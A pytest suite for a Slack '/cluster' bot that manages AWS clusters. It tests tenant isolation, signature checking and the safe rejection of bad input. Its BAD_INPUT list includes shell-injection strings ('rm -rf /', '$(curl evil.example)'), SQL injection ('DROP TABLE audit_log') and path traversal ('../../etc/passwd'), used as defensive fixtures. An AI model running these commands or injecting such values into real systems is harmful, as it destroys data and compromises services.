"""Refusals reveal nothing; bad input gets one message with a Usage line and changes nothing; forged or
stale signatures get 401 and cause nothing."""

from __future__ import annotations

import time
from typing import Any

import pytest

from bot.sandbox.world import SIGNING_SECRET, Sandbox
from storage import crud
from tests.conftest import SeededAws
from tests.scenarios.conftest import ADMIN, COORDINATION, ask, body

BOB = "U0BOB0001"  # viewer of kumo-labs
KUMO_CHANNEL, SAKURA_CHANNEL = "C0KUMOLAB", "C0SAKURA1"
GUEST = "U0GUEST01"


@pytest.mark.parametrize("subcommand", ["status", "nodes"])
async def test_viewer_learns_nothing_about_another_orgs_cluster(sandbox: Sandbox, subcommand: str) -> None:
    foreign = await ask(sandbox, user=BOB, channel=SAKURA_CHANNEL, text=f"{subcommand} sakura-trn1-pretrain")
    missing = await ask(sandbox, user=BOB, channel=SAKURA_CHANNEL, text=f"{subcommand} no-such-cluster")
    assert body(foreign).replace("sakura-trn1-pretrain", "X") == body(missing).replace("no-such-cluster", "X")
    qualified = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text=f"{subcommand} sakura-ai/sakura-trn1-pretrain")
    invented = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text=f"{subcommand} nowhere-org/sakura-trn1-pretrain")
    assert body(qualified).replace("sakura-ai", "X") == body(invented).replace("nowhere-org", "X")
    for reply in (foreign, qualified):
        assert "ml.trn1" not in body(reply) and "InService" not in body(reply) and "i-" not in body(reply)


async def test_listing_another_org_is_refused_like_a_missing_org(sandbox: Sandbox) -> None:
    real = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="list sakura-ai")
    fake = await ask(sandbox, user=BOB, channel=KUMO_CHANNEL, text="list no-such-org")
    assert body(real).replace("sakura-ai", "X") == body(fake).replace("no-such-org", "X")
    assert "sakura-trn1" not in body(real)


@pytest.mark.parametrize("text", ["list all", "help", "status kumo-p5-train", "", "frobnicate"])
async def test_user_in_no_org_is_refused(sandbox: Sandbox, text: str) -> None:
    reply = await ask(sandbox, user=GUEST, channel=KUMO_CHANNEL, text=text)
    assert "not a member of any organization" in body(reply)
    assert reply.kind == "ephemeral" and "kumo" not in body(reply)


BAD_INPUT = [
    "",
    "   ",
    "frobnicate",
    "status",
    "nodes",
    "status a b",
    "list a b c",
    "x" * 4000,
    "status クラスタ名",
    "status 🚀",
    "status x; rm -rf / #",
    "status $(curl evil.example)",
    "status `reboot`",
    "status '; DROP TABLE audit_log; --",
    "list ' OR 1=1 --",
    "nodes c1 --fialed",
    'status "unclosed',
    "status <!channel>",
    "status ../../etc/passwd",
    "delete kumo-p5-train kumo-p5-dev",
    "scale kumo-p5-train worker-group-1 lots",
    "scale kumo-p5-train no-such-group 4",
    "replace kumo-p5-train node-1",
    "reboot kumo-p5-train i-0123456789abcdef0",
    "launch hyperpod-p5 big --count 999",
]


@pytest.mark.parametrize("text", BAD_INPUT, ids=lambda t: repr(t[:24]))
async def test_bad_input_gets_one_usage_message_and_changes_nothing(
    sandbox: Sandbox, seeded_aws: SeededAws, text: str
) -> None:
    before = seeded_aws.state()
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text=text)
    assert reply.kind == "ephemeral"
    assert "Usage:" in reply.text and "/cluster" in reply.text
    assert "Traceback" not in body(reply) and "Error:" not in body(reply)
    assert "<!channel>" not in body(reply)
    assert seeded_aws.state() == before


async def test_unknown_cluster_says_so_and_how_to_find_names(sandbox: Sandbox) -> None:
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="status no-such-cluster")
    assert "No cluster `no-such-cluster`" in body(reply) and "/cluster list" in body(reply)


def _signed_headers_sent(sandbox: Sandbox) -> int:
    return len([m for m in sandbox.slack.messages if m.user == sandbox.slack.bot_user_id])


@pytest.mark.parametrize(
    ("secret", "age_seconds"),
    [("not-the-secret", 0), (SIGNING_SECRET, 6 * 60)],
    ids=["forged", "six-minutes-old"],
)
async def test_bad_signature_gets_401_and_causes_nothing(
    sandbox: Sandbox, seeded_aws: SeededAws, secret: str, age_seconds: int
) -> None:
    before = seeded_aws.state()
    response = await sandbox.slack.send_command(
        user_id=ADMIN,
        channel_id=COORDINATION,
        command="/cluster",
        text="list all",
        signing_secret=secret,
        timestamp=int(time.time()) - age_seconds,
    )
    assert response.status_code == 401
    await sandbox.pitcrew.services.drain()
    assert _signed_headers_sent(sandbox) == 0
    assert not [call for call in sandbox.slack.calls if call.method == "response_url"]
    assert seeded_aws.state() == before


async def test_unsigned_request_gets_401(sandbox: Sandbox) -> None:
    import httpx

    form = sandbox.slack.slash_command_form(user_id=ADMIN, channel_id=COORDINATION, command="/cluster", text="list")
    async with httpx.AsyncClient() as client:
        response = await client.post(f"{sandbox.bot_url}/slack/events", data=form)
    assert response.status_code == 401
    await sandbox.pitcrew.services.drain()
    assert not [call for call in sandbox.slack.calls if call.method == "response_url"]


async def test_healthz_is_ready_once_started(sandbox: Sandbox) -> None:
    import httpx

    async with httpx.AsyncClient() as client:
        response = await client.get(f"{sandbox.bot_url}/healthz")
    assert response.status_code == 200 and response.json()["orgs"] == 12


async def test_an_internal_error_is_one_plain_message_not_a_trace(sandbox: Sandbox, monkeypatch: Any) -> None:
    async def broken(*_: Any, **__: Any) -> None:
        raise RuntimeError("a bug in Pitcrew, with a secret in its message")

    monkeypatch.setattr(sandbox.pitcrew.services.fleet, "find", broken)
    reply = await ask(sandbox, user=ADMIN, channel=COORDINATION, text="status kumo-p5-train")
    assert "internal error" in body(reply) and "secret" not in body(reply) and "Traceback" not in body(reply)
    async with sandbox.pitcrew.services.db.session() as session:
        entries = await crud.audit_entries(session)
    assert [(e.text, e.outcome) for e in entries] == [("status kumo-p5-train", "failed")]
